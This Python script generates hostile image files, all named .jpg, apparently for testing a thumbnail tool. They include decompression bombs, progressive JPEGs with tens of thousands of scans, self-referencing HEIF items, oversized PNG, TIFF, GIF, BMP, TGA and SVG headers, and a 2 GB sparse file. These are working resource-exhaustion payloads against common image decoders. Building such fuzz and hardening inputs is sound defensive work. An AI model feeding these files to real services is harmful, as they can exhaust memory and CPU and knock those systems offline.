#!/usr/bin/env python3
"""Writes hostile picture files, such as decompression bombs, into the current folder.

Each is small, or sparse, and valid as far as it goes: a decoder that trusts what it states would
allocate or do that. The names end in .jpg, which the tool asks of thumbnails whatever they are.
"""

import os
import random
import struct
import zlib


def write(name, content):
    with open(name + ".jpg", "wb") as file:
        file.write(content)


# ---- JPEG (ITU-T T.81)

def segment(marker, content):
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


START = b"\xff\xd8"
END = b"\xff\xd9"
# All steps 1; one code of one bit for "no bits follow", one of two bits for a long end of band.
TABLES = (segment(0xDB, bytes([0] + [1] * 64)) +
          segment(0xC4, bytes([0x00, 1] + [0] * 15 + [0])) +
          segment(0xC4, bytes([0x10, 1, 1] + [0] * 14 + [0x00, 0xE0])))
BASELINE, PROGRESSIVE = 0xC0, 0xC2


def frame(marker, side, components):
    listed = b"".join(bytes([i + 1, 0x11, 0]) for i in range(components))
    return TABLES + segment(marker, struct.pack(">BHHB", 8, side, side, components) + listed)


def scan(components, first, last, bits, coded=b""):
    listed = b"".join(bytes([i + 1, 0]) for i in components)
    return segment(0xDA, bytes([len(components)]) + listed + bytes([first, last, bits])) + coded


def jpegs():
    every, zeros = [0, 1, 2], b"\0" * 9
    dc, refinement = scan(every, 0, 0, 1, zeros), scan(every, 0, 0, 0x10, zeros)
    colored = frame(PROGRESSIVE, 3000, 3) + dc
    write("3000-scans", START + colored + refinement * 3000 + END)
    # Not the usual three-byte signature of JPEG, but libjpeg reads it.
    write("3000-scans-odd-start", START + b"x" + colored + refinement * 3000 + END)
    write("70000-scans", START + colored + refinement * 70000 + END)
    grey = frame(PROGRESSIVE, 22000, 1) + scan([0], 0, 0, 1)
    write("97-scans-of-484-megapixels", START + grey + scan([0], 1, 63, 0) * 97 + END)
    write("6-scans-of-441-megapixels", START + frame(PROGRESSIVE, 21000, 1) +
          scan([0], 0, 0, 1, b"\0" * 900000) + scan([0], 0, 0, 0x10, b"\0" * 900000) * 5 + END)
    write("components-apart", START + frame(BASELINE, 22000, 3) +
          b"".join(scan([i % 3], 0, 63, 0) for i in range(98)) + END)
    write("961-megapixels", START + frame(BASELINE, 31000, 3) +
          scan(every, 0, 63, 0, b"\0" * 9_000_000) + END)
    small = frame(BASELINE, 64, 1) + scan([0], 0, 63, 0, b"\0" * 99)
    write("100000-metadata", START + segment(0xE1, b"abcd") * 100_000 + small + END)
    write("2500000-metadata", START + segment(0xE1, b"") * 2_500_000 + small + END)


# ---- JPEG 2000 (ITU-T T.800)

def jpeg2000(name, side, tile=None, components=3, block=4, precinct=None, coded=b"\0" * 2000):
    levels = 5
    sizes = struct.pack(">HIIIIIIIIH", 0, side, side, 0, 0, tile or side, tile or side, 0, 0,
                        components) + bytes([7, 1, 1]) * components
    coding = bytes([0 if precinct is None else 1, 0, 0, 1, 0, levels, block, block, 0, 1])
    coding += b"" if precinct is None else bytes([precinct] * (levels + 1))
    steps = bytes([0x40] + [0x48] * (3 * levels + 1))
    write(name, b"\xff\x4f" + segment(0x51, sizes) + segment(0x52, coding) + segment(0x5C, steps) +
          segment(0x90, struct.pack(">HIBB", 0, 0, 0, 1)) + b"\xff\x93" + coded + END)


def jpegs2000():
    jpeg2000("jp2-484-megapixels", 22000, coded=b"")
    jpeg2000("jp2-blocks-of-4", 12000, block=0)
    jpeg2000("jp2-precincts-of-2", 12000, precinct=0x11)
    jpeg2000("jp2-64516-tiles", 16000, tile=63)
    jpeg2000("jp2-tiles-and-components", 16000, tile=63, components=16000)


# ---- What GdkPixbuf reads

def png(name, side, bits, color, interlaced, pixel_bytes, more=()):
    def chunk(kind, content):
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    packer = zlib.compressobj(9)
    packed = [packer.compress(b"\2" * (1 << 20))
              for _ in range(side * side * pixel_bytes // (1 << 20) + 40)]
    header = struct.pack(">IIBBBBB", side, side, bits, color, 0, 0, interlaced)
    write(name, b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) +
          b"".join(chunk(*one) for one in more) + chunk(b"IDAT", b"".join(packed) + packer.flush()) + chunk(b"IEND", b""))


def tiff(name, side, bits, samples, compression=5, strip=b""):
    short, long = 3, 4
    # LZW, so that few bytes may stand for many.
    tags = [(256, long, side), (257, long, side), (258, short, bits), (259, short, compression),
            (262, short, 2 if samples > 1 else 1), (273, long, 2000), (277, short, samples), (278, long, side),
            (279, long, 2000)]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    head = b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + b"\0\0\0\0"
    write(name, (head.ljust(2000, b"\0") + strip).ljust(4000, b"\0"))


# ---- HEIF (ISO/IEC 23008-12), its pictures in HEVC (ITU-T H.265)

def bits(*fields):
    """Pairs of a number and its bits; without the latter it is an Exp-Golomb code."""
    text = ""
    for field in fields:
        value, count = field if isinstance(field, tuple) else (
            field + 1, 2 * (field + 1).bit_length() - 1)
        text += format(value, "0%db" % count)
    text += "1"
    return int(text.ljust(-(-len(text) // 8) * 8, "0"), 2).to_bytes(-(-len(text) // 8), "big")


def unit(kind, content, length=2):
    escaped, zeros = bytearray(), 0
    for byte in content:
        if zeros == 2 and byte <= 3:
            escaped.append(3)
            zeros = 0
        escaped.append(byte)
        zeros = zeros + 1 if byte == 0 else 0
    return (len(escaped) + 2).to_bytes(length, "big") + bytes([kind << 1, 1]) + escaped


def hevc(side, slices=1):
    """The configuration and the data of a grey square."""
    levels = [(1, 8), (0x60000000, 32), (0x900000000000, 48), (120, 8)]
    sets = [(32, bits((0, 4), (3, 2), (0, 6), (0, 3), (0x1FFFF, 17), *levels, (1, 1), 0, 0, 0,
                      (0, 6), 0, (0, 2))),
            (33, bits((0, 4), (1, 4), *levels, 0, 1, side, side, (0, 1), 0, 0, 0, (1, 1), 0, 0, 0, 0,
                      3, 0, 3, 0, 0, (0, 4), 0, (0, 5))),
            (34, bits(0, 0, (0, 7), 0, 0, 0, (0, 3), 0, 0, (0, 10), 0, (0, 2)))]
    arrays = b"".join(bytes([kind, 0, 1]) + unit(kind, content) for kind, content in sets)
    coded = bits((2, 2), 0, 2, 0) + b"\0" * 60
    return (b"\1" + b"\0" * 20 + b"\3\3" + arrays, unit(19, coded, 4) * slices)


def box(kind, *contents):
    content = b"".join(contents)
    return struct.pack(">I", len(content) + 8) + kind + content


def heif(name, items, references):
    """`items`: the type, the properties and the data of each, the primary one first."""
    numbers = range(1, len(items) + 1)
    infos = b"".join(box(b"infe", struct.pack(">IHH", 2 << 24, i, 0), item[0], b"\0")
                     for i, item in zip(numbers, items))
    properties = b"".join(b"".join(item[1]) for item in items)
    associations, places, at, index = b"", b"", 0, 1
    for i, (_, own, data) in zip(numbers, items):
        associations += struct.pack(">HB", i, len(own)) + bytes(range(index, index + len(own)))
        index += len(own)
        places += struct.pack(">HHHHII", i, 1, 0, 1, at, len(data))
        at += len(data)
    listed = b"".join(box(kind, struct.pack(">HH%dH" % len(to), start, len(to), *to))
                      for kind, start, to in references)
    count = struct.pack(">H", len(items))
    write(name, box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(
        b"meta", b"\0" * 4, box(b"hdlr", b"\0" * 8, b"pict", b"\0" * 13),
        box(b"pitm", b"\0\0\0\0\0\1"),
        box(b"iloc", b"\1\0\0\0\x44\0", count, places), box(b"iinf", b"\0" * 4, count, infos),
        box(b"iref", b"\0" * 4, listed),
        box(b"iprp", box(b"ipco", properties),
            box(b"ipma", b"\0" * 6, count, associations)),
        box(b"idat", b"".join(item[2] for item in items))))


def heifs():
    def extents(side):
        return box(b"ispe", struct.pack(">III", 0, side, side))

    def square(stated, side, slices=1, *more):
        configuration, data = hevc(side, slices)
        return (b"hvc1", [box(b"hvcC", configuration), extents(stated), *more], data)

    def grid(side, columns):
        return (b"grid", [extents(side), box(b"pixi", b"\0\0\0\0\3\x08\x08\x08")],
                struct.pack(">BBBBHH", 0, 0, columns - 1, columns - 1, side, side))

    heif("heic-iden-of-itself", [(b"iden", [extents(64)], b"")], [(b"dimg", 1, [1])])
    heif("heic-grid-of-itself", [grid(64, 1)], [(b"dimg", 1, [1])])
    alpha = box(b"auxC", b"\0" * 4, b"urn:mpeg:hevc:2015:auxid:1\0")
    heif("heic-alpha-of-alpha", [square(64, 64, 1, alpha), square(64, 64, 1, alpha)],
         [(b"auxl", 1, [2]), (b"auxl", 2, [1])])
    heif("heic-268-megapixels", [square(64, 16384)], [])
    heif("heic-256-tiles-of-16-megapixels", [grid(640, 16), square(40, 4096)],
         [(b"dimg", 1, [2] * 256)])
    heif("heic-1000-slices", [square(4096, 4096, 1000)], [])
    # Of compressed metadata no more than the beginning is there.
    heif("heic-half-a-deflate",
         [square(64, 64), (b"mime\0text/xml\0deflate", [], zlib.compress(b"a" * 99)[:6])],
         [(b"cdsc", 2, [1])])


def profile(space, tags):
    """An ICC profile (ICC.1:2022) of tags with data each."""
    at, listed, data = 132 + 12 * len(tags), b"", b""
    for name, content in tags:
        listed += name + struct.pack(">II", at + len(data), len(content))
        data += content
    head = struct.pack(">I4sI4s4s4s12x4s28xIII48x", at + len(data), b"", 0x04400000, b"mntr", space,
                       b"XYZ ", b"acsp", 0xF6D6, 0x10000, 0xD32D)
    return head + struct.pack(">I", len(tags)) + listed + data


def chained_elements(count):
    """Matrices of 3 by 3, all of which are the same bytes."""
    matrix = b"matf" + struct.pack(">IHH12f", 0, 3, 3, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0)
    return (b"mpet" + struct.pack(">IHHI", 0, 3, 3, count) +
            struct.pack(">II", 16 + 8 * count, len(matrix)) * count + matrix)


def others():
    huge = 22000
    png("png-484-megapixels", huge, 1, 0, 0, 1)
    png("png-80-megapixels-interlaced", 8940, 16, 6, 1, 8)
    text = b"a\0\0" + zlib.compress(b"a" * 7_990_000, 9)
    png("png-1000-texts", 64, 8, 0, 0, 1, [(b"zTXt", text)] * 999)
    chain = profile(b"RGB ", [(b"D2B0", chained_elements(40_000)), (b"wtpt", b"XYZ " + b"\0" * 16)])
    png("icc-40000-elements", 2000, 8, 2, 0, 3, [(b"iCCP", b"a\0\0" + zlib.compress(chain, 9))])
    write("bmp-484-megapixels", b"BM" + struct.pack("<IHHI", 0, 0, 0, 54) + struct.pack(
        "<IiiHHIIiiII", 40, huge, huge, 1, 24, 0, 0, 0, 0, 0, 0) + b"\1" * 4000)
    gif_head = struct.pack("<HHBBB", huge, huge, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    gif_frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, huge, huge, 0) + b"\2\2\x4c\1\0"
    write("gif-484-megapixels", b"GIF89a" + gif_head + gif_frame + b";")
    tga = bytes([0, 0, 10]) + b"\0" * 9
    runs = b"\xff\1\2\3\xff"
    write("tga-484-megapixels", tga + struct.pack("<HHBB", huge, huge, 32, 0x28) + runs * 2000)
    write("tga-80-megapixels", tga + struct.pack("<HHBB", 8940, 8940, 32, 0x28) +
          runs * (8940 * 8940 // 128))
    tiff("tiff-484-megapixels", huge, 8, 4)
    tiff("tiff-one-strip", huge, 16, 4)
    # A header of JBIG (ITU-T T.82) that states 2147483647 pixels a side.
    tiff("tiff-jbig", 64, 1, 1, 34661, b"\0\0\1\0" + b"\x7f\xff\xff\xff" * 3 + b"\x08\0\0\0")
    write("svg-filter", b'<svg xmlns="http://www.w3.org/2000/svg" width="30000" height="30000">'
          b'<filter id="a" x="0" y="0" width="1" height="1"><feGaussianBlur stdDeviation="500"/>'
          b'</filter><rect width="30000" height="30000" filter="url(#a)"/></svg>')
    nested = b"".join(b'<g id="g%d">' % i + b'<use href="#g%d"/>' % (i - 1) * 10 + b"</g>"
                      for i in range(1, 6))
    write("svg-nested", b'<svg xmlns="http://www.w3.org/2000/svg" width="3000" height="3000"><defs>'
          b'<g id="g0"><circle r="900" fill-opacity=".1"/></g>' + nested +
          b'</defs><use href="#g5"/></svg>')
    write("noise", random.Random(1).randbytes(10_000_000))
    write("2-gigabytes-of-nothing", b"")
    os.truncate("2-gigabytes-of-nothing.jpg", (1 << 31) - 4096)


jpegs()
jpegs2000()
heifs()
others()
